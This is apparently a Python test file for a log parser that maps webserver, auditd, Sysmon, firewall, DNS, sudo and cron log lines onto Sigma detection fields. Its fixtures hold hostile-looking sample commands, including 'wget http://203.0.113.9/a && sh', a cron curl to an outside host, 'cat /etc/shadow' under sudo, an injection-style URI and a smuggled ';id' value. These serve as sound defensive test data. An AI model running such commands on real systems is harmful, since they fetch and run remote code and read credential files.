"""Every mapping to the fields of the taxonomy, on lines as receivers bring them."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from actors.parsing.parse import Parser
from actors.sigma.matching.fields import fields_of
from actors.sigma.matching.logsource import LogSource, logsource_of
from actors.sigma.matching.mapping.access import decode
from actors.sigma.matching.mapping.names import address_in
from actors.sigma.matching.mapping.outcome import outcome_of
from protocol.messages import encode
from protocol.records import Event, OtlpRecord, Record

OBSERVED_NS = 1_778_686_199_998_000_000


def event_of(line: str, form: str = "line") -> Event:
    (event,), _ = Parser().parse([Record(OBSERVED_NS, "file", form, "", line.encode())], 1, 1)  # type: ignore[arg-type]
    return event


def look(line: str) -> tuple[dict[str, Any], LogSource]:
    event = event_of(line)
    fields = fields_of(event)
    return fields, logsource_of(event, fields)


REQUEST = (
    '203.0.113.9 - ann [13/May/2026:15:29:59 +0000] "GET /a/b.php?q=1%2527+or HTTP/1.1" 404 512 "https://shop.test/" "probe/1.0"'
)
EXECVE = 'type=EXECVE msg=audit(1778686199.998:7): argc=3 a0="curl" a1="-o" a2=2F746D702F6120622E7368'
SYSCALL = (
    "type=SYSCALL msg=audit(1778686199.998:7): arch=c000003e syscall=59 success=yes exit=0 ppid=10 pid=11 auid=4294967295 "
    'uid=0 comm="curl" exe="/usr/bin/curl" subj=system_u:system_r:init_t:s0 key=(null)'
)
SYSMON = (
    'May 13 15:29:59 web sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{1}"/><EventID>1</EventID>'
    "<Channel>Linux-Sysmon/Operational</Channel><Computer>web</Computer></System><EventData>"
    '<Data Name="Image">/usr/bin/wget</Data><Data Name="CommandLine">wget http://203.0.113.9/a &amp;&amp; sh</Data>'
    '<Data Name="User">root</Data></EventData></Event>'
)
UFW = "May 13 15:29:59 gw kernel: [1.0] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=192.0.2.1 LEN=40 PROTO=TCP SPT=4000 DPT=23 "
FILTERLOG = (
    "<134>1 2026-05-13T15:29:59Z fw filterlog 9 - - 7,,,1000,em0,match,block,in,4,0x0,,64,1,0,DF,6,tcp,60,"
    "203.0.113.9,192.0.2.1,4000,80,0,S,1,,64240,,mss"
)
LAUREL = (
    '{"ID":"1778686199.998:7","SYSCALL":{"exe":"/usr/bin/base64","AUID":"ann","pid":5,"ppid":4,"PPID":{"exe":"/bin/bash"}},'
    '"EXECVE":{"argc":2,"ARGV":["base64","-d"]}}'
)
DAMAGED = 'May 13 15:29:59 web httpd: 203.0.113.9 - - [13/May/2026:15:29:59 +0000] "\\x16\\x03" 400 0 "-" "-"'


@pytest.mark.parametrize(
    ("line", "wanted", "category", "service"),
    [
        (
            REQUEST,
            {
                "cs-method": "GET", "cs-uri": "/a/b.php?q=1%2527+or", "cs-uri-stem": "/a/b.php", "cs-uri-query": "q=1%2527+or",
                "c-uri-extension": "php", "c-ip": "203.0.113.9", "sc-status": 404, "sc-bytes": 512, "cs-username": "ann",
                "cs-referer": "https://shop.test/", "cs-user-agent": "probe/1.0", "outcome": "failure", "action": "request",
                "cs-uri-decoded": "/a/b.php?q=1' or", "cs-headers-decoded": "probe/1.0\nhttps://shop.test/",
            },
            "webserver", "nginx",
        ),
        (DAMAGED, {"sc-status": 400, "outcome": "failure", "src_ip": "203.0.113.9"}, "webserver", None),
        (
            'http 2026-05-13T15:29:59.0Z app/one/2 203.0.113.9:44740 10.0.0.1:80 0.0 0.1 0.0 403 403 34 366 '
            '"GET http://shop.test:80/x?y=1 HTTP/1.1" "probe/2.0" - -',
            {"cs-host": "shop.test", "cs-uri-stem": "/x", "sc-status": 403, "cs-user-agent": "probe/2.0"},
            "proxy", None,
        ),
        (
            '{"ClientAddr":"203.0.113.9:5","RequestMethod":"POST","RequestPath":"/login","DownstreamStatus":401}',
            {"cs-method": "POST", "cs-uri": "/login", "sc-status": 401, "action": "request", "src_ip": "203.0.113.9"},
            "webserver", None,
        ),
        (EXECVE, {"CommandLine": "curl -o /tmp/a b.sh", "Image": "/curl", "a0": "curl"}, "process_creation", "auditd"),
        (
            SYSCALL,
            {
                "SYSCALL": "execve", "ARCH": "x86_64", "AUID": "unset", "result": "success", "Image": "/usr/bin/curl",
                "ProcessId": "11", "ParentProcessId": "10", "subj_domain": "init_t",
            },
            None, "auditd",
        ),
        (
            'type=PATH msg=audit(1778686199.998:7): item=1 name="/etc/cron.d/x" inode=1 nametype=CREATE',
            {"TargetFilename": "/etc/cron.d/x"}, "file_event", "auditd",
        ),
        (
            "type=SOCKADDR msg=audit(1778686199.998:7): saddr=02000050CB0071090000000000000000",
            {"family": "ipv4", "addr": "203.0.113.9", "port": "80", "DestinationIp": "203.0.113.9"},
            "network_connection", "auditd",
        ),
        (
            "type=USER_LOGIN msg=audit(1778686199.998:7): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='op=login "
            'acct="ann" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.9 terminal=ssh res=failed\'',
            {"action": "login", "outcome": "failure", "src_ip": "203.0.113.9", "user": "ann", "SES": "unset"}, None, "auditd",
        ),
        (
            'type=SYSCALL msg=audit(1778686199.998:7): arch=c000003e syscall=2 success=no exit=-13 sig=31',
            {"EXIT": "EACCES", "SIG": "SIGSYS", "SYSCALL": "open", "result": "fail"}, None, "auditd",
        ),
        (
            SYSMON,
            {"Image": "/usr/bin/wget", "CommandLine": "wget http://203.0.113.9/a && sh", "EventID": 1, "User": "root"},
            "process_creation", "sysmon",
        ),
        (
            UFW,
            {"src_ip": "203.0.113.9", "dst_ip": "192.0.2.1", "dst_port": "23", "action": "drop", "blocked": "true"},
            "firewall", None,
        ),
        (FILTERLOG, {"src_ip": "203.0.113.9", "dst_port": "80", "action": "drop", "protocol": "tcp"}, "firewall", None),
        (
            "<166>May 13 15:29:59 fw : %ASA-4-106023: Deny tcp src outside:203.0.113.9/4000 dst inside:192.0.2.1/22 by "
            'access-group "x"',
            {"src_ip": "203.0.113.9", "dst_port": "22", "action": "drop"}, "firewall", None,
        ),
        (
            "May 13 15:29:59 ns named[1]: client @0x7f00 192.0.2.5#5353 (a.test): query: a.test IN TXT +E(0) (192.0.2.1)",
            {"query": "a.test", "record_type": "TXT", "src_ip": "192.0.2.5"}, "dns", None,
        ),
        (
            "May 13 15:29:59 ns dnsmasq[1]: query[AAAA] b.test from 192.0.2.5",
            {"query": "b.test", "record_type": "AAAA", "src_ip": "192.0.2.5"}, "dns", None,
        ),
        (
            "May 13 15:29:59 ns dnsmasq[1]: reply b.test is 198.51.100.7",
            {"query": "b.test", "answer": "198.51.100.7"}, "dns", None,
        ),
        (
            "May 13 15:29:59 ns unbound[1]: [1:0] info: 192.0.2.5 c.test. MX IN",
            {"query": "c.test", "record_type": "MX", "src_ip": "192.0.2.5"}, "dns", None,
        ),
        (
            "May 13 15:29:59 web sudo:      ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
            {
                "user": "ann", "User": "root", "Image": "/usr/bin/cat", "CommandLine": "/usr/bin/cat /etc/shadow",
                "CurrentDirectory": "/home/ann",
            },
            "process_creation", "sudo",
        ),
        (
            "May 13 15:29:59 web CRON[7]: (root) CMD (curl -s http://203.0.113.9/x)",
            {"User": "root", "CommandLine": "curl -s http://203.0.113.9/x", "Image": "/curl"}, "process_creation", "cron",
        ),
        (LAUREL, {"CommandLine": "base64 -d", "Image": "/usr/bin/base64", "ParentImage": "/bin/bash", "User": "ann"},
         "process_creation", "auditd"),
        (
            "May 13 15:29:59 mail postfix/smtpd[7]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: x",
            {"action": "login", "outcome": "failure", "src_ip": "203.0.113.9"}, None, "postfix",
        ),
        (
            "May 13 15:29:59 mail dovecot: imap-login: Login: user=<ann>, method=PLAIN, rip=203.0.113.9, lip=192.0.2.1",
            {"user": "ann", "src_ip": "203.0.113.9", "dst_ip": "192.0.2.1"}, None, "dovecot",
        ),
        (
            "May 13 15:29:59 web sshd[7]: Accepted publickey for ann from 203.0.113.9 port 4000 ssh2",
            {"action": "login", "outcome": "success", "user": "ann", "src_ip": "203.0.113.9", "src_port": "4000"}, None, "auth",
        ),
        (
            "2026-05-13 15:29:59 login authenticator failed for (me) ([192.0.2.7]) [203.0.113.9]:999: 535 Incorrect (set_id=ann)",
            {"src_ip": "203.0.113.9", "user": "ann", "outcome": "failure"}, None, None,
        ),
        (
            '[GIN] 2026/05/13 - 15:29:59 | 401 | 505us | 203.0.113.9 | POST     "/client"',
            {"cs-method": "POST", "cs-uri": "/client", "sc-status": 401, "src_ip": "203.0.113.9"}, "webserver", None,
        ),
        (
            '2026-05-13T15:29:59Z stdout F {"method":"GET","x-envoy-origin-path":"/a","response_code":404,'
            '"user-agent":"probe/3","downstream_remote_address":"203.0.113.9:592"}',
            {"cs-uri": "/a", "sc-status": 404, "cs-user-agent": "probe/3", "src_ip": "203.0.113.9"}, "webserver", None,
        ),
        (
            'level=warning msg="HTTP: POST http://shop.test/login" httpStatus=401 remoteAddr=203.0.113.9',
            {"cs-uri-stem": "/login", "sc-status": 401, "src_ip": "203.0.113.9"}, "webserver", None,
        ),
        (
            '{"action":"login_failed","client_ip":"203.0.113.9","event":"invalid login","username":"ann"}',
            {"action": "login", "outcome": "failure", "user": "ann"}, None, None,
        ),
        ("May 13 15:29:59 web sshd-session[7]: Invalid user ann from 203.0.113.9 port 1", {"user": "ann"}, None, "sshd"),
        ("firewall,info drop input: proto UDP, 203.0.113.9:4000->192.0.2.1:53", {"src_ip": "203.0.113.9"}, None, None),
        (
            "May 13 15:29:59 vpn charon: 1[NET] sending packet: from 192.0.2.1[4500] to 203.0.113.9[4500]",
            {"src_ip": "203.0.113.9"}, None, "charon",
        ),
        ("May 13 15:29:59 web sshd[7]: refused connect from bad.example.org", {"src_host": "bad.example.org"}, None, "sshd"),
    ],
)  # fmt: skip
def test_an_event_has_the_fields_that_rules_use(
    line: str, wanted: dict[str, Any], category: str | None, service: str | None
) -> None:
    fields, source = look(line)
    assert {name: fields.get(name) for name in wanted} == wanted
    assert source.fits("linux", category, service)


def test_a_refused_command_is_no_process() -> None:
    fields, source = look("May 13 15:29:59 web sudo: ann : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh")
    assert "CommandLine" not in fields and not source.fits("linux", "process_creation", None)
    assert fields["user"] == "ann" and fields["outcome"] == "failure"


def test_who_acts_is_the_user_and_not_whom_he_acts_as() -> None:
    fields, _ = look("May 13 15:29:59 web pkexec[7]: ann: Executing command [USER=root] [TTY=unknown] [CWD=/] [COMMAND=/bin/id]")
    assert fields["user"] == "ann"


def test_what_is_not_of_a_kind_has_none_of_its_fields() -> None:
    fields, source = look("May 13 15:29:59 web app[7]: query of SRC and DST came back, all 3 parts")
    assert not {"query", "cs-uri", "CommandLine", "dst_ip", "outcome", "src_ip"} & fields.keys()
    assert not source.categories
    fields, source = look('{"path": "/var/lib/app", "msg": "written"}')
    assert "cs-uri" not in fields and "webserver" not in source.categories
    fields, source = look(LAUREL.replace("-d", "/etc/passwd;id"))
    assert "cs-uri" not in fields and source.fits("linux", "process_creation", "auditd")


@pytest.mark.parametrize(
    ("message", "action", "outcome"),
    [
        ("Failed password for accepted from 192.0.2.1", "login", "failure"),  # no name makes a success of a failure
        ("Authentication successful for ann", "login", "success"),
        ("LoginFailed: ann", "login", "failure"),
        ("login attempt unsuccessful", "login", "failure"),
        ("NOQUEUE: reject: RCPT from x: 550", "deliver", "failure"),
        ("connection refused", "access", "failure"),
        ("unfailing service of the password store", "", ""),
        ("connect from unknown[192.0.2.1]", "", ""),
        ("backup finished successfully", "", ""),
    ],
)
def test_words_say_what_became_of_it(message: str, action: str, outcome: str) -> None:
    assert outcome_of(message) == (action, outcome)


@pytest.mark.parametrize(
    ("value", "address"),
    [
        ("192.0.2.1", "192.0.2.1"), ("192.0.2.1:80", "192.0.2.1"), ("[2001:db8::1]:80", "2001:db8::1"),
        ("::ffff:192.0.2.1", "192.0.2.1"), ("192.0.2.1, 198.51.100.1", "192.0.2.1"), (["192.0.2.1"], "192.0.2.1"),
        ("IPV4/UDP/192.0.2.1/5060", "192.0.2.1"), ("host", None), (None, None), (7, None), ("1:2", None), ([], None),
    ],
)  # fmt: skip
def test_an_address_in_a_value(value: Any, address: str | None) -> None:
    assert address_in(value) == address


def test_a_field_that_is_no_address_is_no_source() -> None:
    fields, _ = look('{"client": "mobile app", "remote_addr": "192.0.2.1", "msg": "x"}')
    assert fields["src_ip"] == "192.0.2.1"
    fields, _ = look('{"src_ip": "mobile app", "msg": "x"}')
    assert "src_ip" not in fields


@pytest.mark.parametrize(
    ("wrapped", "plain"),
    [
        ("a%2527b", "a'b"), ("%u0027", "'"), ("\\x27", "'"), ("&#39;", "'"), ("&#x27;", "'"), ("a+b%20%20c", "a b c"),
        ("%", "%"), ("%25252525", "%25"), ("a%0d%0ab", "a\rb"), ("&#55555555;", "&#55555555;"), ("&#xdfff;", "&#xdfff;"),
        ("&lt;b&gt;", "<b>"), ("?a=1&lt=2", "?a=1&lt=2"),
    ],
)  # fmt: skip
def test_escapes_come_off(wrapped: str, plain: str) -> None:
    assert decode(wrapped) == plain


@pytest.mark.parametrize(
    ("attributes", "product"),
    [({"telemetry.sdk.language": "python"}, "django"), ({"telemetry.sdk.language": "java"}, "spring")],
)
def test_an_exporter_says_what_an_application_is_written_in(attributes: dict[str, str], product: str) -> None:
    record = OtlpRecord("trouble", OBSERVED_NS, 0, 9, "", {}, {"service.name": "shop", **attributes}, {}, "", "")
    (event,), _ = Parser().parse([Record(OBSERVED_NS, "otlp", "otlp", "", encode(record))], 1, 1)
    source = logsource_of(event, fields_of(event))
    assert source.fits(product, "application", None) and source.fits("linux", None, "shop")
    assert not source.fits("nodejs", "application", None)


def test_a_line_without_a_program_may_be_of_any_application() -> None:
    _, source = look("something broke")
    assert source.fits("ruby_on_rails", "application", None)
    _, source = look("May 13 15:29:59 web sshd[7]: something broke")
    assert not source.fits("ruby_on_rails", "application", None)


def test_records_of_clusters_and_clouds_are_known() -> None:
    _, source = look('{"kind":"Event","auditID":"x","verb":"create","objectRef":{"resource":"pods"},"user":{"username":"ann"}}')
    assert source.fits("kubernetes", "application", "audit")
    _, source = look('{"eventSource":"iam.amazonaws.com","eventName":"CreateUser","sourceIPAddress":"192.0.2.1"}')
    assert source.fits("aws", None, "cloudtrail")


VALUES = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(max_size=24)
    | st.sampled_from(["192.0.2.1", "GET", "/a?b", "login failed"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=8,
)
NAMES = st.sampled_from(
    "app user src_ip client ip method status url request path type EXECVE SYSCALL System Event query SRC DST message".split()
)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(NAMES | st.text(max_size=8), VALUES, max_size=8))
def test_no_object_breaks_the_fields(found: dict[str, Any]) -> None:
    event = event_of(json.dumps(found))
    fields = fields_of(event)
    assert fields.get("src_ip") is None or address_in(fields["src_ip"]) or ":" in fields["src_ip"]
    assert logsource_of(event, fields).product in ("linux", "windows")


@settings(max_examples=300, deadline=None)
@given(
    st.sampled_from(
        [
            "",
            "type=EXECVE msg=audit(1.0:1): ",
            "type=SOCKADDR msg=audit(1.0:1): saddr=",
            "<30>May 13 15:29:59 h sysmon: <Event><System>",
            "<30>May 13 15:29:59 h sudo: ",
            "<30>May 13 15:29:59 h named: client ",
            "<30>May 13 15:29:59 h filterlog: ",
            "<30>May 13 15:29:59 h kernel: SRC=",
            "POST /",
            "<30>May 13 15:29:59 h CRON: (root) CMD (",
        ]
    ),
    st.text(max_size=120),
)
def test_no_line_breaks_the_fields(start: str, rest: str) -> None:
    event = event_of((start + rest).encode("utf-8", "replace").decode())
    assert "parse_error" not in event.fields
    assert isinstance(fields_of(event)["message"], str)


@pytest.mark.parametrize(
    "line",
    [
        "May 13 15:29:59 web sudo: ann : " + "A=1 ; " * 3000,
        "May 13 15:29:59 web sysmon: <Event><System></System>" + '<Data Name="a">' * 4000,
        "May 13 15:29:59 ns named[1]: client " + "1.1" * 9000,
        "May 13 15:29:59 fw : %ASA-1-1: Deny " + "a:1 " * 9000,
        "GET /" + "a" * 30000 + " HTTP/1.1",
        '192.0.2.1 - - [13/May/2026:15:29:59 +0000] "GET /?' + "%25" * 20000 + ' HTTP/1.1" 200 1',
        "failed " * 5000,
        "from 192.0.2.1 " * 3000,
    ],
)
def test_hostile_lines_cost_little(line: str) -> None:
    event = event_of(line)
    began_s = time.process_time()
    fields_of(event)
    assert time.process_time() - began_s < 0.25
